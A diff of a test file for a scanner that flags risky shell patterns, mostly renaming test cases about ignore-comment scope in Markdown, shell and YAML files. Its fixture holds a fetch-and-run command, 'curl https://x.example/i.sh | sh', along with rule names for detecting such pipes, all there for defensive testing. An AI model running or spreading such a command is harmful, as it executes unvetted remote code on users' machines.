@@ -1,5 +1,5 @@
 import { describe, expect, it } from "vitest";
-import { folderWith } from "../folder.js";
+import { folderWith } from "../folder-with.js";
 import { runHere } from "../fake-detector.js";
 
 const BAD = "curl https://x.example/i.sh | sh";
@@ -48,7 +48,7 @@ describe("an ignore comment in the syntax of its file", () => {
     ["a.adoc", `// ${NOTE}`],
   ])("%s: %s", async (name, comment) => {
     const { found, ignored, status, file } = await scan(name, `${comment}\n${BAD}\n${BAD}\n`);
-    // in Markdown both lines are one paragraph
+    // in Markdown, the comment and the command would be one paragraph
     const isMarkdown = /\.mdx?$|README/.test(name);
     expect([found, ignored]).toEqual(isMarkdown ? [[], [2, 3]] : [[3], [2]]);
     expect(status).toBe(isMarkdown ? 0 : 1);
@@ -123,24 +123,30 @@ describe("the scope of an ignore comment", () => {
       [7],
       [3, 5],
     ],
-    ["not a heading and what is below", "a.md", `${C}\n# Install\n${BAD}\n\n${BAD}`, [5], [3]],
-    ["its own line, behind something", "a.md", `x\n\nRun ${BAD} ${C}\n\n${BAD}`, [5], [3]],
     [
-      "its own row of a table",
+      "the block below a heading that follows it",
+      "a.md",
+      `${C}\n# Install\n${BAD}\n\n${BAD}`,
+      [5],
+      [3],
+    ],
+    ["the line whose end it follows", "a.md", `x\n\nRun ${BAD} ${C}\n\n${BAD}`, [5], [3]],
+    [
+      "the row of a table that contains it",
       "a.md",
       `| a |\n|---|\n| \`${BAD}\` ${C} |\n| \`${BAD}\` |`,
       [4],
       [3],
     ],
     ["the next line of a script", "a.sh", `# ${NOTE}\n\n${BAD}\n${BAD}\n`, [4], [3]],
+    ["a continued line", "a.sh", `# ${NOTE}\nenv \\\n  X=1 \\\n  ${BAD}\n${BAD}\n`, [5], [4]],
     [
-      "a line that is continued",
+      "the continued line whose end it follows",
       "a.sh",
-      `# ${NOTE}\nenv \\\n  X=1 \\\n  ${BAD}\n${BAD}\n`,
-      [5],
-      [4],
+      `env \\\n  ${BAD} # ${NOTE}\n${BAD}\n`,
+      [3],
+      [2],
     ],
-    ["the end of a continued line", "a.sh", `env \\\n  ${BAD} # ${NOTE}\n${BAD}\n`, [3], [2]],
     [
       "the text below a key of YAML",
       "a.yml",
@@ -149,12 +155,12 @@ describe("the scope of an ignore comment", () => {
       [6],
     ],
     ["nothing below another key of YAML", "a.yml", `# ${NOTE}\nsteps:\n- run: ${BAD}\n`, [3], []],
-    ["nothing at the end", "a.sh", `${BAD}\n# ${NOTE}\n`, [1], []],
-  ])("%s", async (_name, file, text, found, ignored) => {
+    ["nothing if it is the last line", "a.sh", `${BAD}\n# ${NOTE}\n`, [1], []],
+  ])("is %s", async (_name, file, text, found, ignored) => {
     expect(await scan(file, text)).toMatchObject({ found, ignored });
   });
 
-  it("several comments may be adjacent", async () => {
+  it("is the same for each of several adjacent comments", async () => {
     const { found, ignored, remarks } = await scan(
       "a.sh",
       `# ${NOTE}\n# curlew-ignore bash/fetch-variable: and this\n${BAD}\n`,
@@ -162,7 +168,7 @@ describe("the scope of an ignore comment", () => {
     expect([found, ignored, remarks.map(({ message }) => message)]).toEqual([[], [3], []]);
   });
 
-  it("an example in a fence is not a comment", async () => {
+  it("is empty for an example of a comment in a fence", async () => {
     expect(await scan("a.md", `\`\`\`md\n${C}\n${BAD}\n\`\`\`\n`)).toMatchObject({
       found: [3],
       ignored: [],
@@ -170,7 +176,7 @@ describe("the scope of an ignore comment", () => {
     });
   });
 
-  it("it applies only to the rules that it names", async () => {
+  it("is limited to the rules that the comment names", async () => {
     expect(
       await scan("a.sh", `# curlew-ignore bash/fetch-substitution: x\n${BAD}\n`),
     ).toMatchObject({ found: [2] });
@@ -195,7 +201,7 @@ describe("an error in an ignore comment is reported", () => {
     ]);
   });
 
-  it("in the output for people, with a count", async () => {
+  it("in the text output, with a count", async () => {
     const { stdout, status } = await runHere(["scan", "a.sh"], {
       cwd: folderWith({ "a.sh": `true\n  # ${NOTE}\ntrue` }),
     });
@@ -210,7 +216,7 @@ describe("an error in an ignore comment is reported", () => {
     expect((await scan("a.sh", "# curlew-ignore bash/decode-pipe: x\ntrue\n")).remarks).toEqual([]);
   });
 
-  it("if the reason is missing and required", async () => {
+  it("if a required reason is missing", async () => {
     const text = `# curlew-ignore bash/fetch-pipe\n${BAD}\n# curlew-ignore bash/fetch-pipe:\n${BAD}\n`;
     expect(await scan("a.sh", text)).toMatchObject({ found: [], ignored: [2, 4], remarks: [] });
     const cwd = folderWith({ "a.sh": text, "curlew.json": '{"requireReason": true}' });
